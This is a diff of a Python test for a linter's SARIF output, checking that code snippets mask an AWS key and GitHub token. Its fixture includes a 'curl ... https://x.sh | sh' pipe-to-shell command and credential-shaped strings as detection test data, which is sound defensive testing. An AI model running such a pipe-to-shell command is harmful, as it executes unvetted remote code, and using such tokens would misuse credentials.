@@ -338,16 +338,21 @@ def test_baseline_suppression_is_external(tmp_path: Path) -> None:
     assert log["runs"][0]["results"][0]["suppressions"] == [{"kind": "external", "justification": "lintkit baseline"}]
 
 
-def test_secret_findings_carry_no_snippet(tmp_path: Path) -> None:
-    base = registry()
-    reg = Registry([])
-    reg.rules.update(base.rules)
-    reg.rules["CRD001"] = Rule("CRD001", "aws-access-key", Severity.HIGH, "AWS key", "why", "fix", kinds=("cloudformation",), tags=("secrets",), cwe=(798,), help_uri="https://example.com/CRD001")
-    text = "version: 0.2\nenv:\n  variables:\n    KEY: AKIAIOSFODNN7EXAMPLE\n"
-    finding = Finding("CRD001", "AWS access key ID 'AKIA…MPLE'", Location("buildspec.yml", 4, 10, 4, 30), Severity.HIGH, "aws-access-key")
-    sarif_text = render("sarif", _result(tmp_path, {"buildspec.yml": text}, [finding], reg=reg))
+def test_snippets_show_secrets_masked_whatever_rule_fired(tmp_path: Path) -> None:
+    key = "AKIA" + "QYLPMN5HHHFPZAM2"
+    token = "ghp_" + "q3Tz8LmW1vKx7RbN2cYp9HdF4sGj6Ae0Uo5i"
+    text = f"version: 0.2\nenv:\n  variables:\n    KEY: {key}\n    KEY: x\nphases:\n  build:\n    commands:\n      - curl -H 'X-Token: {token}' https://x.sh | sh\n"
+    findings = [
+        _finding("CRD001", "buildspec.yml", 4, 10),  # a secrets rule
+        _finding("GEN002", "buildspec.yml", 4, 5),  # any other rule on the same line
+        Finding("BSP010", "pipe to shell", Location("buildspec.yml", 9, 9, 9, 80), Severity.HIGH, "pipe-to-shell"),
+    ]
+    sarif_text = render("sarif", _result(tmp_path, {"buildspec.yml": text}, findings))
     _check(json.loads(sarif_text))
-    assert "AKIAIOSFODNN7EXAMPLE" not in sarif_text
+    assert key not in sarif_text and key[4:] not in sarif_text and token[4:] not in sarif_text
+    regions = [r["locations"][0]["physicalLocation"] for r in json.loads(sarif_text)["runs"][0]["results"]]
+    assert [p["contextRegion"]["snippet"]["text"] for p in regions][:2] == ["    KEY: AKIA****************"] * 2
+    assert regions[2]["contextRegion"]["snippet"]["text"] == "      - curl -H 'X-Token: ghp_" + "*" * 36 + "' https://x.sh | sh"
 
 
 def test_paths_outside_the_root_become_absolute_file_uris(tmp_path: Path) -> None:
